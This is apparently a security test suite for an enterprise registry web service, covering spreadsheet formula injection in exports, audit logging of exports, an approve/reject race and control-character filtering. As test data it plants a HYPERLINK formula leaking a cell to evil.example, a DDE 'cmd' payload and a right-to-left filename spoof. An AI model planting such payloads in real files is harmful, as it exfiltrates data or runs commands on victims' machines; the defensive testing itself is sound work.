// Security review, the data rows: formula injection through exports, exports leaving a trace,
// the approve/reject race, other firms' record ids in enterprise users' messages, and control and
// bidirectional characters in text.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Client, creditCode, freshSystem, kechuang } from './harness.mjs';

let sys;
let acme;
let other;
before(async () => {
  sys = await freshSystem();
  acme = (await sys.admin.post('/api/v1/registry/enterprises', { credit_code: creditCode(8101), name: '甲科技' })).json;
  other = (await sys.admin.post('/api/v1/registry/enterprises', { credit_code: creditCode(8102), name: '乙科技' })).json;
  assert.ok(acme.id && other.id);
});
after(async () => { await sys?.server.stop(); });

let users = 0;
async function enterpriseClient(enterpriseId) {
  users += 1;
  const name = `firm-user-${users}`;
  const password = `Firm-User-Pass-${users}!x`;
  const add = kechuang(['user', 'add', '--no-password-change', '--db', sys.db, '--name', name, '--role', 'enterprise',
    '--enterprise-id', String(enterpriseId)], `${password}\n`);
  assert.equal(add.status, 0, add.stderr);
  const c = new Client(sys.server.url);
  assert.equal((await c.login(name, password)).status, 200);
  return c;
}

async function auditEntries(action) {
  const r = await sys.admin.get(`/api/v1/audit?action=${encodeURIComponent(action)}&page_size=200`);
  assert.equal(r.status, 200, r.text);
  return r.json.items;
}

// Cells of the first sheet of an XLSX: shared strings resolved, and whether any cell holds a formula.
function xlsxCells(bytes) {
  const dir = mkdtempSync(join(tmpdir(), 'kc-xlsx-'));
  try {
    const path = join(dir, 'x.xlsx');
    writeFileSync(path, bytes);
    const part = (name) => {
      try { return execFileSync('unzip', ['-p', path, name], { encoding: 'utf8' }); } catch { return ''; }
    };
    const unescape = (s) => s.replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"').replace(/&apos;/g, "'").replace(/&amp;/g, '&');
    const shared = [...part('xl/sharedStrings.xml').matchAll(/<si>(.*?)<\/si>/gs)]
      .map((m) => unescape([...m[1].matchAll(/<t[^>]*>(.*?)<\/t>/gs)].map((t) => t[1]).join('')));
    const sheet = part('xl/worksheets/sheet1.xml');
    const texts = [
      ...[...sheet.matchAll(/<c [^>]*t="s"[^>]*>\s*<v>(\d+)<\/v>/g)].map((m) => shared[Number(m[1])]),
      ...[...sheet.matchAll(/<c [^>]*t="inlineStr"[^>]*>\s*<is>(.*?)<\/is>/gs)]
        .map((m) => unescape([...m[1].matchAll(/<t[^>]*>(.*?)<\/t>/gs)].map((t) => t[1]).join(''))),
    ];
    return { texts, formulas: /<f[ >]/.test(sheet) };
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

test('med: CSV injection — text an enterprise plants is neutralised in the CSV and XLSX exports, and re-import restores it', async () => {
  const firm = await enterpriseClient(acme.id);
  const planted = {
    contact_person: '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    address: '+1+cmd|\' /C calc\'!A0',
    tags: '@SUM(1+1)',
    former_names: '-2+3',
  };
  const filed = await firm.patch(`/api/v1/registry/enterprises/${acme.id}`, planted);
  assert.equal(filed.status, 202, filed.text);
  assert.equal((await sys.admin.post(`/api/v1/submissions/${filed.json.submission.id}/approve`)).status, 200);

  const csv = await sys.admin.get(`/api/v1/registry/enterprises/export?format=csv&q=${encodeURIComponent('甲科技')}`);
  assert.equal(csv.status, 200);
  for (const value of Object.values(planted)) {
    assert.ok(!csv.text.includes(`,${value}`) && !csv.text.includes(`,"${value.replace(/"/g, '""')}"`),
      `the CSV holds ${value} as a bare cell`);
    assert.ok(csv.text.includes(`'${value.replace(/"/g, '""')}`), `the CSV holds ${value} with the apostrophe guard`);
  }

  const xlsx = await fetch(`${sys.server.url}/api/v1/registry/enterprises/export?format=xlsx`, { headers: { cookie: sys.admin.cookie } });
  assert.equal(xlsx.status, 200);
  const bytes = Buffer.from(await xlsx.arrayBuffer());
  const cells = xlsxCells(bytes);
  assert.equal(cells.formulas, false, 'no formula cell in the XLSX export');
  for (const value of Object.values(planted)) assert.ok(cells.texts.includes(`'${value}`), `XLSX text cell '${value}`);

  // Clear the fields, then import the exported CSV again: the stored text comes back exactly.
  const cleared = await sys.admin.patch(`/api/v1/registry/enterprises/${acme.id}`,
    { contact_person: '', address: '', tags: '', former_names: '' });
  assert.equal(cleared.status, 200, cleared.text);
  const back = await sys.admin.request('POST', '/api/v1/registry/enterprises/import?update=true', csv.text,
    { headers: { 'content-type': 'text/csv' } });
  assert.equal(back.status, 200, back.text);
  assert.equal(back.json.committed, true, back.text);
  const record = (await sys.admin.get(`/api/v1/registry/enterprises/${acme.id}`)).json;
  for (const [field, value] of Object.entries(planted)) assert.equal(record[field], value, field);
});

test('med: exports leave no trace — every registry, log, cultivation and index export is recorded with who, what, filter and rows', async () => {
  const before = (await auditEntries('enterprises.export')).length;
  assert.equal((await sys.admin.get('/api/v1/registry/enterprises/export?format=csv&q=%E4%B9%99')).status, 200);
  assert.equal((await sys.admin.request('GET', '/api/v1/registry/enterprises/export?format=xlsx', undefined, { raw: true })).status, 200);
  const registry = await auditEntries('enterprises.export');
  assert.equal(registry.length, before + 2);
  const csvEntry = registry.find((e) => e.after.format === 'csv' && e.after.filter.q === '乙');
  assert.ok(csvEntry, JSON.stringify(registry));
  assert.equal(csvEntry.actor, 'admin');
  assert.equal(csvEntry.after.rows, 1, 'one enterprise matches 乙');
  const xlsxEntry = registry.find((e) => e.after.format === 'xlsx');
  assert.equal(xlsxEntry.after.rows, 2);

  assert.equal((await sys.admin.get('/api/v1/audit/export?action=enterprises.export')).status, 200);
  const audit = await auditEntries('audit_log.export');
  assert.equal(audit.length, 1);
  assert.deepEqual(audit[0].after.filter, { action: 'enterprises.export' });
  assert.equal(audit[0].after.rows, before + 2);

  assert.equal((await sys.admin.get('/api/v1/login-log/export?q=admin')).status, 200);
  const logins = await auditEntries('login_log.export');
  assert.equal(logins.length, 1);
  assert.ok(logins[0].after.rows >= 1);

  assert.equal((await sys.admin.request('GET', '/api/v1/cultivation/tiers?from=2012&to=2013&format=xlsx', undefined, { raw: true })).status, 200);
  const tiers = await auditEntries('cultivation_tiers.export');
  assert.equal(tiers.length, 1);
  assert.deepEqual(tiers[0].after.filter, { from: 2012, to: 2013 });

  const asem = join(import.meta.dirname, '../reference/asem');
  const index = await sys.admin.request('POST', '/api/v1/index/build?format=xlsx', {
    data: readFileSync(join(asem, 'ASEM_iData.csv'), 'utf8'), meta: readFileSync(join(asem, 'ASEM_iMeta.csv'), 'utf8'),
  }, { raw: true });
  assert.equal(index.status, 200);
  const workbooks = await auditEntries('index_results.export');
  assert.equal(workbooks.length, 1);
  assert.equal(workbooks[0].after.rows, 51, 'the ASEM workbook ranks 51 units');

  const dir = mkdtempSync(join(tmpdir(), 'kc-export-'));
  try {
    const out = join(dir, 'firms.csv');
    const cli = kechuang(['export', '--db', sys.db, 'enterprises', '--out', out]);
    assert.equal(cli.status, 0, cli.stderr);
    assert.ok(readFileSync(out, 'utf8').includes('甲科技'));
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
  const after = await auditEntries('enterprises.export');
  assert.equal(after.length, before + 3, 'the CLI export is recorded too');
});

test('med: approve/reject race — of 40 barrier-started pairs exactly one decision wins and the loser gets 409', async () => {
  const firm = await enterpriseClient(other.id);
  const second = new Client(sys.server.url);
  const staff = `race-staff`;
  const add = kechuang(['user', 'add', '--no-password-change', '--db', sys.db, '--name', staff, '--role', 'staff'], 'Race-Decider-Pass-7!\n');
  assert.equal(add.status, 0, add.stderr);
  assert.equal((await second.login(staff, 'Race-Decider-Pass-7!')).status, 200);
  const ids = [];
  for (let i = 0; i < 40; i++) {
    const r = await firm.patch(`/api/v1/registry/enterprises/${other.id}`, { contact_phone: `0571-8800${String(i).padStart(4, '0')}` });
    assert.equal(r.status, 202, r.text);
    ids.push(r.json.submission.id);
  }
  for (const id of ids) {
    // Both requests are built first and released together.
    let release;
    const barrier = new Promise((resolve) => { release = resolve; });
    const approve = barrier.then(() => sys.admin.post(`/api/v1/submissions/${id}/approve`));
    const reject = barrier.then(() => second.post(`/api/v1/submissions/${id}/reject`, { note: `退回 ${id}` }));
    release();
    const [a, r] = await Promise.all([approve, reject]);
    assert.deepEqual([a.status, r.status].sort(), [200, 409], `submission ${id}: ${a.status} ${a.text} / ${r.status} ${r.text}`);
    const decided = (await sys.admin.get(`/api/v1/submissions?page_size=200`)).json.items.find((s) => s.id === id);
    if (a.status === 200) {
      assert.equal(decided.status, 'approved');
      assert.equal(decided.note, null, 'an approval carries no rejection note');
      assert.ok(decided.result_record_id);
    } else {
      assert.equal(decided.status, 'rejected');
      assert.equal(decided.note, `退回 ${id}`);
      assert.equal(decided.result_record_id, null);
    }
  }
  const decisions = [...await auditEntries('submission.approve'), ...await auditEntries('submission.reject')]
    .filter((e) => ids.includes(Number(e.entity_id)));
  assert.equal(decisions.length, 40, 'one decision recorded per submission');
});

test("low: an enterprise user who sets its credit code to another's is not told that firm's record id", async () => {
  const firm = await enterpriseClient(acme.id);
  const r = await firm.patch(`/api/v1/registry/enterprises/${acme.id}`, { credit_code: other.credit_code });
  assert.equal(r.status, 422, r.text);
  assert.equal(r.json.errors[0].field, 'credit_code');
  assert.doesNotMatch(r.text, /\(id \d+\)|编号/, 'no record id in the message');
  // Staff are told which record holds the key, to find the clash.
  const staff = await sys.admin.patch(`/api/v1/registry/enterprises/${acme.id}`, { credit_code: other.credit_code });
  assert.equal(staff.status, 422);
  assert.match(staff.json.errors[0].message, new RegExp(`\\(id ${other.id}\\)`));
});

test('low: text fields refuse NUL, control and bidi characters (tab and newline only in long text fields)', async () => {
  const refused = [
    ['name', 'a\u0000b', 'U+0000'],
    ['name', '甲\u202Egnp.exe', 'U+202E'],
    ['contact_person', 'Li\u0007', 'U+0007'],
    ['contact_person', 'Li\u0085', 'U+0085'],
    ['name', 'two\nlines', 'U+000A'],
    ['town', 'a\tb', 'U+0009'],
    ['name', '\u2066isolate', 'U+2066'],
  ];
  for (const [field, value, code] of refused) {
    const r = await sys.admin.patch(`/api/v1/registry/enterprises/${other.id}`, { [field]: value });
    assert.equal(r.status, 422, `${field}=${JSON.stringify(value)}: ${r.text}`);
    assert.equal(r.json.errors[0].field, field);
    assert.ok(r.json.errors[0].message.includes(code), r.text);
  }
  const multiline = await sys.admin.patch(`/api/v1/registry/enterprises/${other.id}`, { former_names: '旧名一\n旧名二\r\n\t旧名三' });
  assert.equal(multiline.status, 200, multiline.text);
  assert.equal(multiline.json.former_names, '旧名一\n旧名二\r\n\t旧名三');
  const kinds = (await sys.admin.get('/api/v1/registry/kinds')).json.kinds;
  const fields = kinds.find((k) => k.name === 'enterprises').fields;
  assert.equal(fields.find((f) => f.name === 'former_names').multiline, true);
  assert.equal(fields.find((f) => f.name === 'name').multiline, false);

  // The importer refuses the same characters, as a row error naming the row and column.
  const file = `credit_code,name\n${creditCode(8103)},好企业\n${creditCode(8104)},"坏\u0000企业"\n${creditCode(8105)},坏\u202E企业\n`;
  const r = await sys.admin.request('POST', '/api/v1/registry/enterprises/import', file, { headers: { 'content-type': 'text/csv' } });
  assert.equal(r.status, 200, r.text);
  assert.equal(r.json.committed, false);
  assert.deepEqual(r.json.errors.map((e) => [e.row, e.column]), [[3, 'name'], [4, 'name']]);
  assert.equal((await sys.admin.get(`/api/v1/registry/enterprises?q=${creditCode(8103)}`)).json.total, 0, 'nothing is half-written');
});
